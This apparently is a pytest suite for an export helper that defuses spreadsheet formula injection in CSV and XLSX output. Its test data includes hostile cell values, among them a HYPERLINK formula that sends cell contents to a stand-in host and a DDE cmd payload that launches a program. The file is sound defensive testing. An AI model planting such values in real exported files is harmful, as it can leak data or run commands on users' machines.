"""The one cell helper of every CSV and XLSX export: shown, never run; never a failure."""

import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from core.exports import (
    csv_writer,
    spreadsheet_cell,
    spreadsheet_row,
    spreadsheet_text,
)

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?d="&A1,"看这里")', "'=HYPERLINK("),
    ("+1", "'+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\x1b=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),  # a control hides nothing
]


@pytest.mark.parametrize(("value", "start"), HOSTILE)
def test_formula_text_is_quoted(value, start):
    assert spreadsheet_text(value).startswith(start)


@pytest.mark.parametrize("value", ["王师傅", "买花 = 好看", "2026-05-01", "501", ""])
def test_plain_text_is_unchanged(value):
    assert spreadsheet_text(value) == value


def test_every_character_openpyxl_refuses_is_removed():
    refused = "".join(
        chr(code) for code in range(32) if ILLEGAL_CHARACTERS_RE.match(chr(code))
    )
    assert len(refused) == 29
    assert spreadsheet_text(f"张{refused}三") == "张三"
    assert spreadsheet_text("第一行\n第二行\t完") == "第一行\n第二行\t完"


def test_numbers_and_dates_stay_numbers_and_dates():
    values = [Decimal("-12.50"), -3, 1.5, date(2026, 5, 1), None, True]
    assert spreadsheet_row(values) == values
    assert spreadsheet_cell(Decimal("-12.50")) == Decimal("-12.50")


def test_csv_writer_quotes_every_text_cell():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+1", Decimal("-5.00"), "张\x1b三"])
    writer.writerows([["@x", 1]])
    assert out.getvalue().splitlines() == ["'=1+1,-5.00,张三", "'@x,1"]


def test_xlsx_with_every_hostile_value_saves_and_holds_text_not_formulas():
    workbook = Workbook()
    sheet = workbook.active
    for value, _start in HOSTILE:
        sheet.append(spreadsheet_row([value, Decimal("-7.25")]))
    out = io.BytesIO()
    workbook.save(out)
    rows = list(load_workbook(out).active.iter_rows())
    for (_value, start), (text, amount) in zip(HOSTILE, rows, strict=True):
        assert text.data_type == "s"  # text, not a formula ("f")
        # XML reads a carriage return back as a line feed
        assert text.value.startswith(start.replace("\r", "\n"))
        assert amount.data_type == "n" and amount.value == -7.25
